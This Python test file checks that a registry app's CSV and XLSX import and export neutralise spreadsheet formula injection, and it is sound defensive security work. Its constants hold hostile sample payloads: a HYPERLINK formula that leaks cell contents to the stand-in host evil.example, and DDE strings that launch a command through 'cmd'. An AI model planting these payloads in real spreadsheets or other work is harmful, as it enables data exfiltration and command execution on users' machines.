"""Hostile registry sheets over the real API (issue 11, items 8 and 9).

Formula injection: values a spreadsheet would run (`=HYPERLINK(...)`, `@SUM(...)`, `-2+3...`)
are imported as they are and exported as text (CSV: after a single quote, every cell quoted;
XLSX: text cells with Excel's quote prefix), and the exports import back as no change. The
files are in tests/security/corpus/sheets/.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

from helpers import SITE
from konenut.app.registry import XLSX_TYPE
from konenut.domain.roles import Role

from .conftest import Site
from .test_registry import upload

CORPUS = Path(__file__).parent.parent / "security" / "corpus" / "sheets"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A3,"Click for details")'
DDE = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+9)*cmd|' /C calc'!A0"
SPLIT = "+1+1;=1+1"  # a semicolon: Excel in semicolon locales would start a cell at =1+1


def test_formula_like_values_are_imported_intact_and_exported_as_text(site: Site) -> None:
    answer = upload(site, (CORPUS / "formula_injection.csv").read_bytes())
    assert answer.status_code == 201, answer.text
    state = site.store.state(SITE)
    household = next(h for h in state.households.values() if h.ref == "h-66")
    people = {p.ref: p for p in state.persons.values() if p.household_id == household.household_id}
    assert (household.name, household.pets) == (HYPERLINK, AT_SUM)
    assert (people["p-66-1"].name, people["p-66-2"].name) == (DDE, SPLIT)

    exported = site.get("/api/v1/site/households/export.csv", Role.ADMIN)
    text = exported.content.decode("utf-8-sig")
    lines = {line.split(",", 1)[0]: line for line in text.split("\r\n") if line}
    assert lines['"h-66"'].startswith('"h-66","\'=HYPERLINK(""https://evil.example')  # quoted
    rows = [r for r in csv.DictReader(io.StringIO(text)) if r["household_ref"] == "h-66"]
    assert [(r["name"], r["phone"]) for r in rows] == [
        ("'" + DDE, "'+972501119999"),
        ("'" + SPLIT, ""),
    ]
    assert (rows[0]["household_name"], rows[0]["pets"]) == ("'" + HYPERLINK, "'" + AT_SUM)

    workbook = site.get("/api/v1/site/households/export.xlsx", Role.ADMIN).content
    assert not any(b"<f>" in _sheet_xml(workbook, name) for name in _sheet_names(workbook))
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(workbook)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    person = header.index("person_ref")
    cells = {
        (row[person].value, header[index]): cell
        for row in sheet.iter_rows(min_row=2)
        for index, cell in enumerate(row)
    }
    for column, value in (("household_name", HYPERLINK), ("pets", AT_SUM), ("name", DDE)):
        cell = cells[("p-66-1", column)]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True), column
    assert cells[("p-66-1", "person_ref")].quotePrefix is False  # only formula-like values

    before = site.head()
    for data, media_type in ((exported.content, "text/csv"), (workbook, XLSX_TYPE)):
        again = upload(site, data, media_type)
        assert again.status_code == 200, again.text
        assert again.json()["events"] == 0
    assert site.events_after(before) == []


def _sheet_names(workbook: bytes) -> list[str]:
    names = zipfile.ZipFile(io.BytesIO(workbook)).namelist()
    return [n for n in names if n.startswith("xl/worksheets/")]


def _sheet_xml(workbook: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(workbook)).read(name)
